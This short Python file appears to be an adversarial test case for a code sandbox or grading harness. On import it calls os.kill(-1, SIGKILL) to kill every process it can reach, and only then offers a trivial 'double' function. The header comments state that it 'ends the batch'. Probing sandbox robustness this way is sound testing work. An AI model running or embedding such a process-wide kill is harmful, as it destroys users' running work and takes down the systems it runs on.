# family: processes
# tries: to kill everything that it may
# stock: no, it ends the batch
import os
import signal

WON = None
try:
    os.kill(-1, signal.SIGKILL)
    WON = True
except OSError:
    pass


def double(x):
    return 2 * x if WON else None
